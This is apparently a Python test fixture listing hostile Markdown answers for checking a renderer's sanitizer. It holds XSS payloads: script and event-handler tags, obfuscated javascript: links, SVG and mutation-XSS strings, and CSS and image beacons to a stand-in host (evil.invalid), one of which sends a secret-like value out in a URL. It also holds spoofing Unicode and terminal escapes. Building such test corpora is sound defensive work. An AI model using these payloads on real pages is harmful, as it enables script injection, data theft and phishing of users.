"""Answers written to break out of the page: every vector in every place where Markdown may carry it."""

from __future__ import annotations

OUT = "http://evil.invalid"
ALERT = "alert(1)"
BROKEN = f"<img src=x onerror={ALERT}>"

HTML = [
    f"<script>{ALERT}</script>",
    BROKEN,
    f"<img src='{OUT}/a.png'>",
    f"<img srcset='{OUT}/a1.png 1x, {OUT}/a2.png 2x'>",
    f"<picture><source srcset='{OUT}/a3.webp'><img alt=x></picture>",
    f"<input type=image src='{OUT}/a4.png'>",
    f"<table background='{OUT}/a5.png'><tr><td background='{OUT}/a6.png'>x</table>",
    "<iframe src='javascript:alert(1)'></iframe>",
    f"<iframe src='{OUT}/i'></iframe>",
    f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    f"<object data='{OUT}/j'></object><embed src='{OUT}/k'>",
    f"<base href='{OUT}/'>",
    f"<meta http-equiv=refresh content='0;url={OUT}/p'>",
    f"<video src='{OUT}/q.mp4' poster='{OUT}/q.png' autoplay></video><audio src='{OUT}/r.mp3' autoplay></audio>",
    f"<form action='{OUT}/s'><button autofocus formaction='javascript:{ALERT}'>Go on</button></form>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<a href='javascript:{ALERT}' autofocus onfocus={ALERT}>x</a>",
    f"<a href=\"{OUT}/x\" ping='{OUT}/ping'>x</a>",
    f"<body onload={ALERT}><marquee onstart={ALERT}>x</marquee>",
    "<b id=getElementById>clobber</b><form name=body></form><img name=cookie>",
    f"<template><script>{ALERT}</script></template>",
    f"<link rel=prefetch href='{OUT}/pre'><link rel=preconnect href='{OUT}'>",
    f"<dialog open><button popovertarget=x onclick={ALERT}>Continue</button></dialog>",
    f"<x onclick={ALERT}>" * 50,
    f"<div contenteditable onblur={ALERT} tabindex=1 autofocus>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
]
PICTURES = [
    f"![a]({OUT}/b.png)",
    f"![a][ref]\n\n[ref]: {OUT}/c.png",
    f"![ref2][]\n\n[ref2]: <{OUT}/c2.png> 'title'",
    f"[![a]({OUT}/d.png)]({OUT}/e)",
    f"![a](<{OUT}/f.png> 'title')",
    "![a](//evil.invalid/g.png)",
    f'![a]({OUT}/h.png "x\\" onerror=\\"{ALERT}")',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f'!["><script>{ALERT}</script>](x)',
    "![a](javascript:alert(1))",
    f"![secret?key={'k' * 40}]({OUT}/log?q={'k' * 40})",
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\u00adscript:alert(1)>)",
    "[click](javascript&colon;alert(1))",
    "[click](%6aavascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](blob:http://evil.invalid/1)",
    "[click](file:///etc/passwd)",
    "[click](//evil.invalid/scheme)",
    "[click](intent://evil.invalid#Intent;end)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    f"[paypal.com]({OUT}/v)",
    "[user](http://good.example@evil.invalid/w)",
    "https://evil.invalid/auto",
    "www.evil.invalid/auto and someone@evil.invalid",
    "[mail](mailto:a@evil.invalid?subject=<script>alert(1)</script>)",
    "[homograph](https://\u0430pple.com/login)",
    f'[a](<{OUT}/" onmouseover="{ALERT}>)',
]
DRAWINGS = [
    f"<svg onload={ALERT}><circle r=5></svg>",
    f"<svg><script href='data:text/javascript,{ALERT}'/></svg>",
    f"<svg><image href='{OUT}/g.png'/></svg>",
    f"<svg><use href='{OUT}/h.svg#x'/></svg>",
    f"<svg><a xlink:href='javascript:{ALERT}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:alert(1)'/></svg>",
    f"<svg><foreignObject><iframe src='{OUT}/fo'></iframe></foreignObject></svg>",
    f"<svg><filter id=f><feImage href='{OUT}/fe.png'/></filter></svg>",
    f"<svg style='fill:url({OUT}/fill.svg#x)'><rect/></svg>",
]
MUTATIONS = [
    f"<math><mtext><table><mglyph><style>{BROKEN}",
    f"<form><math><mtext></form><form><mglyph><style></math>{BROKEN}",
    f"<noscript><p title='</noscript>{BROKEN}'>",
    f'<svg></p><style><a id="</style>{BROKEN}">',
    f"<math><annotation-xml encoding='text/html'><style><img title='</style>{BROKEN}'>",
    f"<select><template><style><!--</style><a rel='--></style></select>{BROKEN}'>",
    f"<xmp><p title='</xmp>{BROKEN}'>",
    f"<title><p title='</title>{BROKEN}'>",
    f"<!--><{BROKEN}-->",
    f"<![CDATA[><{BROKEN}]]>",
    f"<p><svg><desc><![CDATA[</desc><script>{ALERT}</script>]]></svg>",
    f"<plaintext>{BROKEN}",
    "[" * 500 + "](" * 500,
    "# " + "<" * 400,
    "*" * 700 + "a" + "_" * 700,
    "> " * 200 + BROKEN,
]
CODE = [
    f"`{BROKEN}`",
    f"```html\n{BROKEN}\n```",
    f'```"><{BROKEN}\ncode\n```',
    f"~~~ </code></pre>{BROKEN}\nx\n~~~",
    f"    </code></pre>{BROKEN}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\url{javascript:alert(1)}$ and $\\includegraphics{http://evil.invalid/t.png}$",
    "$$\\style{background:url(http://evil.invalid/u.png)}{x}$$",
    "$\\htmlData{onclick=alert(1)}{x}$ and $\\htmlId{root}{x}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    f"$$\\text{{{BROKEN}}}$$",
]
STYLES = [
    f"<link rel=stylesheet href='{OUT}/l.css'>",
    f"<style>@import '{OUT}/m.css'; body {{ background: url({OUT}/n.png) }}</style>",
    f"<div style='background:url({OUT}/o.png);position:fixed;inset:0'>over all</div>",
    f"<p style='list-style:url({OUT}/o2.png);display:list-item'>x</p>",
    f"<style>@font-face{{font-family:x;src:url({OUT}/f.woff)}} *{{font-family:x}}</style>",
    "<p class='answer primary skip' id='main'>dressed as the page</p>",
]
TURNED = [
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "[\u202emoc.lapyap\u202c](http://evil.invalid/turned)",
    "\u200e\u200f\u061cwhich way\u2067 round\u2069",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 20,
    "\x00\x07\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
]
VECTORS = [*HTML, *PICTURES, *LINKS, *DRAWINGS, *MUTATIONS, *CODE, *STYLES, *TURNED]

CARRIERS = [
    "{}",
    "- one\n- two {}",
    "| a | b |\n|---|---|\n| {} | x |",
]

ANSWERS = [carrier.format(vector) for vector in VECTORS for carrier in CARRIERS]


def name_of(place: int) -> str:
    """What shows in a page's text that the answer at this place is on it."""
    return f"hostile {place:03}"


def answer(place: int) -> str:
    return f"This is {name_of(place)}.\n\n{ANSWERS[place]}"
